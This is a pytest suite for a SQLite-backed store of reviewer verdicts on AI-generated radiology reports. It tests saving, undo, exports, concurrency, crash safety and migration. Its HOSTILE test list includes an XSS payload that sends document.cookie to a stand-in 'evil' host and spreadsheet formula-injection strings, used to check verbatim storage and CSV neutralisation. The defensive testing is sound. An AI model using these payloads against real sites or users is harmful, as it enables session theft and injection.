"""Review store on real SQLite files: saves, undo, exports, concurrency, crash safety, migration, hostile text."""

from __future__ import annotations

import csv
import itertools
import json
import os
import signal
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pytest

from model_backend.boxes import model_to_image_box
from model_backend.types import BackendInfo, Box, Finding, PromptContext, Report
from tests.review_writer import study_of
from tests.review_writer import verdict as writer_verdict
from webapp.database import ReviewStoreError
from webapp.reviews import FindingVerdict, Omission, ReportVerdict, ReviewStore
from webapp.schema import SCHEMA_VERSION

ROOT = Path(__file__).resolve().parents[1]
WRITER = ROOT / "tests" / "review_writer.py"
KEY = ("ds", "study-1", "rep-1")

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="fetch(`//evil/?c=`+document.cookie)">',
    '=HYPERLINK("http://evil","click")',
    "-2+3",
    "'quoted",
    "@SUM(A1)",
    "\tTabbed\r\nline two\n",
    "emoji 🫁🩻👩🏽‍⚕️ RTL עברית العربية \u202eevil\u202c combining e\u0301 Z\u0336\u0337 zero\u200bwidth",
    "\u2028\u2029\x85 separators, \\u0000 as text, \x01 \x7f controls",
    "Ω" * 50_000 + "x" * 2_400,  # > 100 KB of UTF-8
]


def finding(text_verdict: str | None = "correct", **extra: object) -> FindingVerdict:
    fields: dict[str, object] = {
        "finding_text": "Small left pleural effusion.",
        "model_boxes": [[0.1, 0.2, 0.3, 0.4], [0.5, 0.5, 0.995, 0.995]],
        "image_width": 1000,
        "image_height": 800,
        "context": {"name": "A", "indication": "cough"},
        "backend": "demo",
        "model_id": "demo-model",
    }
    return FindingVerdict(text_verdict=text_verdict, **(fields | extra))  # type: ignore[arg-type]


@pytest.fixture
def store(tmp_path: Path):
    with ReviewStore(tmp_path / "reviews.sqlite") as s:
        yield s


def raw(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(path, isolation_level=None)


def test_database_settings(store: ReviewStore) -> None:
    conn = store._conn
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert conn.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
    assert conn.execute("PRAGMA foreign_keys").fetchone()[0] == 1
    assert conn.execute("PRAGMA busy_timeout").fetchone()[0] >= 5000
    assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION


def test_save_edit_and_history(store: ReviewStore) -> None:
    first = store.save_finding_verdict("alice", *KEY, 0, finding("correct"))
    second = store.save_finding_verdict("alice", *KEY, 0, finding("false_finding", significance="significant"))
    store.save_finding_verdict("alice", *KEY, 2, finding(None, box_verdict="wrong_place"))
    store.save_finding_verdict("bob", *KEY, 0, finding("wrong_location"))
    assert second > first

    current = store.finding_verdicts(*KEY, "alice")
    assert sorted(current) == [0, 2]
    assert current[0] == finding("false_finding", significance="significant")
    assert current[2].box_verdict == "wrong_place" and current[2].text_verdict is None
    assert store.finding_verdicts(*KEY, "bob")[0].text_verdict == "wrong_location"
    assert store.finding_verdicts(*KEY, "carol") == {}
    assert store.reviewers() == ["alice", "bob"]

    events = store.history(*KEY, finding_index=0)
    assert [(e.reviewer, e.kind, e.payload.get("text_verdict")) for e in events] == [
        ("alice", "finding_verdict", "correct"),
        ("alice", "finding_verdict", "false_finding"),
        ("bob", "finding_verdict", "wrong_location"),
    ]
    assert events[0].ts.endswith("Z") and events[0].ts <= events[1].ts
    assert len(store.history(*KEY)) == 4


def test_event_log_is_append_only(store: ReviewStore) -> None:
    store.save_finding_verdict("alice", *KEY, 0, finding())
    conn = raw(store.path)
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute("UPDATE events SET payload = '{}'")
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute("DELETE FROM events")
    assert conn.execute("SELECT count(*) FROM events").fetchone()[0] == 1


def test_report_verdict_round_trip(store: ReviewStore) -> None:
    assert store.report_verdict(*KEY, "alice") is None
    verdict = ReportVerdict(
        omissions=[{"text": "Cardiomegaly", "significance": "significant"}, Omission("Old rib fracture")],
        rating=2,
        comment="misses the heart",
    )
    store.save_report_verdict("alice", *KEY, verdict)
    got = store.report_verdict(*KEY, "alice")
    assert got == verdict
    assert got.omissions[0] == Omission("Cardiomegaly", "significant")
    assert store.finding_verdicts(*KEY, "alice") == {}  # report level is not a finding
    assert store.history(*KEY)[0].finding_index is None


def test_undo_appends_events_that_step_back(store: ReviewStore) -> None:
    a, b = finding("correct"), finding("wrong_severity", significance="insignificant", comment="on second look")
    store.save_finding_verdict("alice", *KEY, 1, a)
    store.save_finding_verdict("alice", *KEY, 1, b)
    store.save_finding_verdict("bob", *KEY, 1, finding("other"))

    assert store.undo_last("alice", *KEY, 1) is not None
    assert store.finding_verdicts(*KEY, "alice") == {1: a}
    assert store.undo_last("alice", *KEY, 1) is not None
    assert store.finding_verdicts(*KEY, "alice") == {}
    assert store.reviewed_study_ids("ds", "alice") == set()
    assert store.undo_last("alice", *KEY, 1) is None  # nothing left to undo, nothing appended
    assert store.finding_verdicts(*KEY, "bob")[1].text_verdict == "other"  # other reviewers untouched

    events = [e for e in store.history(*KEY, finding_index=1) if e.reviewer == "alice"]
    assert [e.kind for e in events] == ["finding_verdict", "finding_verdict", "undo", "undo"]
    assert events[2].payload == events[0].payload == a.to_payload()
    assert events[3].payload == {"cleared": True}

    # a new save after undos, then undo again: back to cleared
    store.save_finding_verdict("alice", *KEY, 1, b)
    assert store.finding_verdicts(*KEY, "alice") == {1: b}
    store.undo_last("alice", *KEY, 1)
    assert store.finding_verdicts(*KEY, "alice") == {}

    store.save_report_verdict("alice", *KEY, ReportVerdict(rating=4))
    store.save_report_verdict("alice", *KEY, ReportVerdict(rating=1))
    store.undo_last("alice", *KEY)  # finding_index None = the report verdict
    assert store.report_verdict(*KEY, "alice") == ReportVerdict(rating=4)


def test_export_round_trip_csv_and_jsonl(store: ReviewStore, tmp_path: Path) -> None:
    for i, text in enumerate(HOSTILE):
        store.save_finding_verdict("alice", "ds", f"s{i}", "r", 0, finding("other", significance="significant"))
        store.save_finding_verdict("alice", "ds", f"s{i}", "r", 0, finding("other", comment=text, finding_text=text))
    store.save_finding_verdict("=bob", "ds", "s0", "r", 3, FindingVerdict(text_verdict="correct"))
    store.save_finding_verdict("alice", "other-ds", "s0", "r", 0, finding())
    store.save_report_verdict("alice", "ds", "s0", "r", ReportVerdict([{"text": "-effusion"}], 3, "=1+1"))

    assert store.export(tmp_path / "all.jsonl", "jsonl", dataset="ds") == len(HOSTILE) + 1
    rows = [json.loads(line) for line in (tmp_path / "all.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(rows) == len(HOSTILE) + 1
    assert {r["dataset"] for r in rows} == {"ds"}

    by_study = {r["study_id"]: r for r in rows if r["reviewer"] == "alice"}
    for i, text in enumerate(HOSTILE):
        row = by_study[f"s{i}"]
        assert row["comment"] == text and row["finding_text"] == text  # exact, not escaped or trimmed
        assert row["text_verdict"] == "other" and row["significance"] is None
        assert row["first_ts"] < row["last_ts"]
        assert row["context"] == {"name": "A", "indication": "cough"}
        assert (row["backend"], row["model_id"]) == ("demo", "demo-model")
    row = by_study["s0"]
    assert row["model_boxes"] == [[0.1, 0.2, 0.3, 0.4], [0.5, 0.5, 0.995, 0.995]]
    # 1000 x 800: centre crop 800 px wide starting at x = 100
    assert row["image_boxes"] == [[180.0, 160.0, 340.0, 320.0], [500.0, 400.0, 896.0, 796.0]]
    assert row["image_boxes"][1] == [
        round(v, 1) for v in model_to_image_box(Box(0.5, 0.5, 0.995, 0.995), 1000, 800).as_tuple()
    ]
    bob = next(r for r in rows if r["reviewer"] == "=bob")
    assert bob["model_boxes"] is None and bob["image_boxes"] is None and bob["finding_index"] == 3

    assert store.export(tmp_path / "all.csv", "csv", dataset="ds") == len(rows)
    assert (tmp_path / "all.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with open(tmp_path / "all.csv", encoding="utf-8-sig", newline="") as f:
        cells = list(csv.DictReader(f))
    assert len(cells) == len(rows)
    for cell_row, row in zip(cells, rows, strict=True):
        for column, value in row.items():
            text = cell_row[column]
            if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
                assert text == "'" + value, column  # neutralised for spreadsheets
                text = text[1:]
            expected = (
                ""
                if value is None
                else json.dumps(value, ensure_ascii=False)
                if isinstance(value, list | dict)
                else str(value)
            )
            assert text == expected, column

    assert store.export(tmp_path / "alice.jsonl", "jsonl", reviewer="alice") == len(HOSTILE) + 1
    assert store.export(tmp_path / "reports.csv", "csv", level="report") == 1
    with open(tmp_path / "reports.csv", encoding="utf-8-sig", newline="") as f:
        (report_row,) = list(csv.DictReader(f))
    assert report_row["comment"] == "'=1+1" and report_row["rating"] == "3"
    assert json.loads(report_row["omissions"]) == [{"text": "-effusion", "significance": None}]
    with pytest.raises(ValueError, match="format"):
        store.export(tmp_path / "x.xlsx", "xlsx")  # type: ignore[arg-type]


def test_cli_export(store: ReviewStore, tmp_path: Path) -> None:
    store.save_finding_verdict("alice", *KEY, 0, finding(comment="<script>alert(1)</script>"))
    store.save_finding_verdict("bob", *KEY, 0, finding("false_finding"))
    cli = [sys.executable, "-m", "webapp.reviews", "export", "--db", str(store.path)]
    out = tmp_path / "out.jsonl"
    done = subprocess.run([*cli, "--format", "jsonl", "--out", str(out)], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "exported 2 finding verdicts" in done.stderr
    assert [json.loads(line)["reviewer"] for line in out.read_text().splitlines()] == ["alice", "bob"]

    done = subprocess.run(
        [*cli, "--format", "csv", "--reviewer", "bob"], cwd=ROOT, capture_output=True, encoding="utf-8"
    )
    assert done.returncode == 0, done.stderr
    (row,) = list(csv.DictReader(done.stdout.splitlines()))
    assert (row["reviewer"], row["text_verdict"]) == ("bob", "false_finding")

    missing = tmp_path / "nope.sqlite"
    done = subprocess.run([*cli[:-1], str(missing), "--format", "csv"], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 2 and "no review database" in done.stderr
    assert not missing.exists()


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_stored_verbatim(store: ReviewStore, text: str) -> None:
    store.save_finding_verdict("r", *KEY, 0, finding(comment=text, finding_text=text))
    store.save_report_verdict("r", *KEY, ReportVerdict([{"text": text}], comment=text))
    got = store.finding_verdicts(*KEY, "r")[0]
    assert got.comment == text and got.finding_text == text
    report = store.report_verdict(*KEY, "r")
    assert report.comment == text and report.omissions[0].text == text
    stored = raw(store.path).execute("SELECT payload FROM events ORDER BY id DESC LIMIT 1").fetchone()[0]
    assert json.loads(stored)["comment"] == text
    if len(text) <= 200:  # names are text too
        store.save_finding_verdict(text, *KEY, 1, finding())
        assert text.strip() in store.reviewers()


def test_nul_and_lone_surrogates_are_refused(store: ReviewStore) -> None:
    with pytest.raises(ValueError, match="NUL character"):
        finding(comment="before\x00after")
    with pytest.raises(ValueError, match="NUL character"):
        ReportVerdict(omissions=[{"text": "a\x00"}])
    with pytest.raises(ValueError, match="lone surrogate"):
        finding(comment="broken \ud800 pair")
    with pytest.raises(ValueError, match="NUL character"):
        store.save_finding_verdict("ali\x00ce", *KEY, 0, finding())
    with pytest.raises(ValueError, match="limit"):
        finding(comment="x" * 1_000_001)
    assert store.history(*KEY) == []


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: FindingVerdict(text_verdict="wrong"), "text_verdict must be one of correct, false_finding"),
        (lambda: FindingVerdict(text_verdict="Correct"), "text_verdict must be one of"),
        (lambda: FindingVerdict(box_verdict="too_big"), "box_verdict must be one of correct, wrong_place"),
        (lambda: FindingVerdict(text_verdict="other", significance="high"), "significance must be one of"),
        (lambda: FindingVerdict(text_verdict="correct", significance="significant"), "applies only to errors"),
        (lambda: FindingVerdict(significance="significant"), "applies only to errors"),
        (lambda: FindingVerdict(model_boxes=[[0.1, 0.2, 0.3]], image_width=1, image_height=1), r"\[x0, y0, x1, y1\]"),
        (lambda: FindingVerdict(model_boxes=[[0.1, 0.2, 0.3, float("nan")]], image_width=1, image_height=1), "finite"),
        (lambda: FindingVerdict(model_boxes=[[0.1, 0.2, 0.3, 0.4]]), "need image_width and image_height"),
        (lambda: FindingVerdict(image_width=0), "image_width must be a positive integer"),
        (lambda: FindingVerdict(context={"f": float("inf")}), "JSON-serialisable"),
        (lambda: FindingVerdict(context={"a": object()}), "JSON-serialisable"),
        (lambda: ReportVerdict(rating=6), "rating must be an integer from 1 to 5"),
        (lambda: ReportVerdict(rating=True), "rating must be an integer from 1 to 5"),
        (lambda: ReportVerdict(omissions=[{"text": "a", "significance": "major"}]), "omission significance"),
        (lambda: ReportVerdict(omissions=[{"text": "  "}]), "omission text must not be empty"),
        (lambda: ReportVerdict(omissions=["effusion"]), "an omission must be"),
    ],
)
def test_invalid_values_raise_clear_value_errors(make, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        make()


def test_invalid_keys_raise_and_save_nothing(store: ReviewStore) -> None:
    with pytest.raises(ValueError, match="reviewer must not be empty"):
        store.save_finding_verdict("  ", *KEY, 0, finding())
    with pytest.raises(ValueError, match="finding_index must be a non-negative integer"):
        store.save_finding_verdict("alice", *KEY, -1, finding())
    with pytest.raises(ValueError, match="study_id must not be empty"):
        store.save_report_verdict("alice", "ds", "", "r", ReportVerdict())
    with pytest.raises(TypeError, match="FindingVerdict"):
        store.save_finding_verdict("alice", *KEY, 0, {"text_verdict": "correct"})  # type: ignore[arg-type]
    assert store.history(*KEY) == []
    store.save_finding_verdict(" alice ", *KEY, 0, finding())  # reviewer names are trimmed
    assert store.reviewers() == ["alice"] and 0 in store.finding_verdicts(*KEY, "alice")


def test_verdict_for_a_generated_finding(store: ReviewStore) -> None:
    report = Report(
        study_id="study-1",
        context=PromptContext(indication="dyspnoea"),
        findings=(Finding("Normal heart size."), Finding("Left effusion.", (Box(0.105, 0.605, 0.405, 0.895),))),
        image_width=640,
        image_height=512,
        raw_text="",
        complete=True,
        backend=BackendInfo("local", "microsoft/maira-2"),
    )
    verdict = FindingVerdict.for_finding(report, 1, text_verdict="correct", box_verdict="wrong_extent")
    store.save_finding_verdict("alice", "ds", "study-1", report.report_id, 1, verdict)
    got = store.finding_verdicts("ds", "study-1", report.report_id, "alice")[1]
    assert got == verdict
    assert (got.finding_text, got.model_boxes, got.model_id) == (
        "Left effusion.",
        ((0.105, 0.605, 0.405, 0.895),),
        "microsoft/maira-2",
    )
    assert got.context["indication"] == "dyspnoea"
    assert FindingVerdict.for_finding(report, 0).model_boxes is None
    with pytest.raises(ValueError, match="no finding 2"):
        FindingVerdict.for_finding(report, 2)


def test_agreement_between_two_reviewers(store: ReviewStore) -> None:
    alice = ["correct", "correct", "false_finding", "correct"]
    bob = ["correct", "false_finding", "false_finding", "correct"]
    for i, (a, b) in enumerate(zip(alice, bob, strict=True)):
        store.save_finding_verdict("alice", *KEY, i, finding(a, box_verdict="correct"))
        store.save_finding_verdict("bob", *KEY, i, finding(b, box_verdict="correct" if i else "wrong_place"))
    store.save_finding_verdict("alice", *KEY, 4, finding("other"))  # judged by one reviewer only

    per_finding = store.agreement(*KEY)
    assert [f["finding_index"] for f in per_finding] == [0, 1, 2, 3, 4]
    assert [f["text_agree"] for f in per_finding] == [True, False, True, True, None]
    assert [f["box_agree"] for f in per_finding] == [False, True, True, True, None]
    assert per_finding[1]["reviewers"] == {
        "alice": {"text_verdict": "correct", "significance": None, "box_verdict": "correct"},
        "bob": {"text_verdict": "false_finding", "significance": None, "box_verdict": "correct"},
    }

    summary = store.agreement_summary(*KEY)
    assert summary["reviewers"] == ["alice", "bob"]
    # po = 3/4; chance: alice 3 correct + 1 ff, bob 2 + 2 -> pe = (3*2 + 1*2) / 16 = 0.5; kappa = 0.5
    assert summary["text_verdict"] == {"n": 4, "percent_agreement": 75.0, "cohen_kappa": pytest.approx(0.5)}
    # boxes: po = 3/4; alice all "correct" -> pe = 3/4 -> kappa 0
    assert summary["box_verdict"]["cohen_kappa"] == pytest.approx(0.0)

    store.save_finding_verdict("carol", *KEY, 0, finding("other"))
    summary = store.agreement_summary(*KEY)
    assert summary["text_verdict"]["percent_agreement"] == 50.0 and summary["text_verdict"]["cohen_kappa"] is None


def test_progress_and_next_unreviewed(store: ReviewStore) -> None:
    ids = ["a", "b", "c", "d"]
    store.save_finding_verdict("alice", "ds", "b", "r", 0, finding())
    store.save_report_verdict("alice", "ds", "d", "r", ReportVerdict(rating=5))
    store.save_finding_verdict("bob", "ds", "a", "r", 0, finding())
    store.save_finding_verdict("alice", "other", "a", "r", 0, finding())
    assert store.reviewed_study_ids("ds", "alice") == {"b", "d"}
    assert store.progress("ds", "alice", ids) == (2, 4)
    assert store.next_unreviewed("ds", "alice", ids, None) == "a"
    assert store.next_unreviewed("ds", "alice", ids, "a") == "c"
    assert store.next_unreviewed("ds", "alice", ids, "c") == "a"  # wraps around
    assert store.next_unreviewed("ds", "alice", ids, "unknown") == "a"
    for study in ("a", "c"):
        store.save_finding_verdict("alice", "ds", study, "r", 0, finding())
    assert store.next_unreviewed("ds", "alice", ids, "b") is None
    assert store.progress("ds", "alice", ids) == (4, 4)
    store.undo_last("alice", "ds", "c", "r", 0)
    assert store.next_unreviewed("ds", "alice", ids, "c") == "c"


def test_threads_share_one_store(store: ReviewStore) -> None:
    def work(t: int) -> None:
        for i in range(40):
            store.save_finding_verdict(f"r{t}", *KEY, i, finding(comment=f"{t}/{i}"))
            store.finding_verdicts(*KEY, f"r{t}")

    threads = [threading.Thread(target=work, args=(t,)) for t in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for t in range(4):
        assert [v.comment for v in store.finding_verdicts(*KEY, f"r{t}").values()] == [f"{t}/{i}" for i in range(40)]


def test_two_processes_write_concurrently_and_lose_nothing(tmp_path: Path) -> None:
    """Two writer processes open a new database at once (both create and migrate it), then save in
    lockstep rounds: each round releases both, and both must acknowledge before the next, so their
    commits contend for the file in every round and interleave by construction."""
    db, rounds = tmp_path / "reviews.sqlite", 300
    procs = {
        name: subprocess.Popen(
            [sys.executable, str(WRITER), str(db), name, str(rounds), "--lockstep"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        for name in ("alice", "bob")
    }
    for proc in procs.values():
        assert proc.stdout.readline().strip() == "ready"
    acked: dict[str, list[tuple[int, int]]] = {name: [] for name in procs}
    for _ in range(rounds):
        for proc in procs.values():
            proc.stdin.write("go\n")
            proc.stdin.flush()
        for name, proc in procs.items():
            acked[name].append(tuple(map(int, proc.stdout.readline().split())))
    for proc in procs.values():
        proc.stdin.close()
        assert proc.wait(timeout=120) == 0
    for name in procs:
        assert [i for i, _ in acked[name]] == list(range(rounds))

    with ReviewStore(db) as store:
        order = [r for (r,) in store._conn.execute("SELECT reviewer FROM events ORDER BY id")]
        assert len(order) == 2 * rounds
        for name in procs:
            ids = {event_id for _, event_id in acked[name]}
            assert {e for (e,) in store._conn.execute("SELECT id FROM events WHERE reviewer = ?", (name,))} == ids
            for i in (0, 149, 299):
                assert store.finding_verdicts("ds", study_of(i), "r1", name)[i] == writer_verdict(name, i, 0)
    assert sum(a != b for a, b in itertools.pairwise(order)) >= rounds  # one switch inside every round


def test_sigkill_keeps_every_acknowledged_verdict(tmp_path: Path) -> None:
    db = tmp_path / "reviews.sqlite"
    acked: list[tuple[int, int]] = []
    for run, kill_after in enumerate((40, 120)):
        reviewer = f"w{run}"
        proc = subprocess.Popen(
            [sys.executable, str(WRITER), str(db), reviewer, "1000", "--comment-kb", "48"],
            stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        seen = []
        for line in proc.stdout:
            seen.append(tuple(map(int, line.split())))
            if len(seen) == kill_after:
                os.kill(proc.pid, signal.SIGKILL)
                break
        seen += [tuple(map(int, line.split())) for line in proc.stdout]  # printed before the kill landed
        proc.wait(timeout=30)
        assert proc.returncode == -signal.SIGKILL
        assert kill_after <= len(seen) < 1000
        acked += [(run, *pair) for pair in seen]

        with ReviewStore(db) as store:
            conn = store._conn
            assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
            assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
            stored = dict(conn.execute("SELECT id, reviewer FROM events WHERE reviewer != 'after'"))
            for r, _, event_id in acked:
                assert stored.get(event_id) == f"w{r}", f"acknowledged event {event_id} is missing"
            assert len(stored) <= len(acked) + run + 1  # at most one commit per run was not yet printed
            r, i, _ = acked[-1]
            assert store.finding_verdicts("ds", study_of(i), "r1", f"w{r}")[i] == writer_verdict(f"w{r}", i, 48)
            store.save_finding_verdict("after", *KEY, 0, finding())  # the file stays writable


V1_SCHEMA = """
CREATE TABLE events (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    ts TEXT NOT NULL,
    reviewer TEXT NOT NULL,
    dataset TEXT NOT NULL,
    study_id TEXT NOT NULL,
    report_id TEXT NOT NULL,
    finding_index INTEGER NOT NULL,
    kind TEXT NOT NULL,
    payload TEXT NOT NULL
);
PRAGMA user_version = 1;
"""


def test_migrates_a_version_1_database(tmp_path: Path) -> None:
    db = tmp_path / "old.sqlite"
    conn = raw(db)
    conn.executescript(V1_SCHEMA)
    v1_payload = {  # version 1 had no significance
        "text_verdict": "false_finding", "box_verdict": "wrong_place", "comment": "old «comment» 🫁",
        "finding_text": "Effusion.", "model_boxes": [[0.1, 0.2, 0.3, 0.4]], "image_width": 1000,
        "image_height": 800, "context": {"name": "A"}, "backend": "local", "model_id": "microsoft/maira-2",
    }  # fmt: skip
    rows = [
        ("2024-01-01T10:00:00.000000Z", "alice", "ds", "s1", "r1", 0, {**v1_payload, "text_verdict": "correct"}),
        ("2024-01-01T10:05:00.000000Z", "alice", "ds", "s1", "r1", 0, v1_payload),
        ("2024-01-01T10:06:00.000000Z", "bob", "ds", "s1", "r1", 2, {**v1_payload, "comment": "bob"}),
    ]
    for ts, reviewer, ds, study, report, index, payload in rows:
        conn.execute(
            "INSERT INTO events (ts, reviewer, dataset, study_id, report_id, finding_index, kind, payload)"
            " VALUES (?, ?, ?, ?, ?, ?, 'finding_verdict', ?)",
            (ts, reviewer, ds, study, report, index, json.dumps(payload, ensure_ascii=False)),
        )
    before = conn.execute("SELECT * FROM events ORDER BY id").fetchall()
    conn.close()

    with ReviewStore(db) as store:
        assert store._conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 3
        assert store._conn.execute("SELECT * FROM events ORDER BY id").fetchall() == before
        alice = store.finding_verdicts("ds", "s1", "r1", "alice")
        assert alice == {0: FindingVerdict(**v1_payload)} and alice[0].significance is None
        assert store.finding_verdicts("ds", "s1", "r1", "bob")[2].comment == "bob"
        assert store.reviewed_study_ids("ds", "alice") == {"s1"}
        (row,) = store.export_rows(reviewer="alice")
        assert (row["first_ts"], row["last_ts"]) == (rows[0][0], rows[1][0])
        assert row["image_boxes"] == [[180.0, 160.0, 340.0, 320.0]]

        new_id = store.save_report_verdict("alice", "ds", "s1", "r1", ReportVerdict(rating=3))  # new in v2
        assert new_id > before[-1][0]
        assert store.undo_last("alice", "ds", "s1", "r1", 0) is not None
        assert store.finding_verdicts("ds", "s1", "r1", "alice")[0].text_verdict == "correct"
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            store._conn.execute("DELETE FROM events")
    with ReviewStore(db) as store:  # reopening a current database changes nothing
        assert len(store.history("ds", "s1", "r1")) == 5


def test_refuses_foreign_newer_or_corrupt_files(tmp_path: Path) -> None:
    newer = tmp_path / "newer.sqlite"
    raw(newer).execute("PRAGMA user_version = 99")
    with pytest.raises(ReviewStoreError, match="newer than this app"):
        ReviewStore(newer)
    foreign = tmp_path / "foreign.sqlite"
    raw(foreign).execute("CREATE TABLE patients (name TEXT)")
    with pytest.raises(ReviewStoreError, match="not a review store"):
        ReviewStore(foreign)
    garbage = tmp_path / "garbage.sqlite"
    garbage.write_bytes(np.random.default_rng(0).bytes(8192))
    with pytest.raises(ReviewStoreError, match="not a usable review database"):
        ReviewStore(garbage)
    assert raw(foreign).execute("SELECT name FROM sqlite_master").fetchall() == [("patients",)]
    assert raw(foreign).execute("PRAGMA journal_mode").fetchone()[0] == "delete"  # left as it was
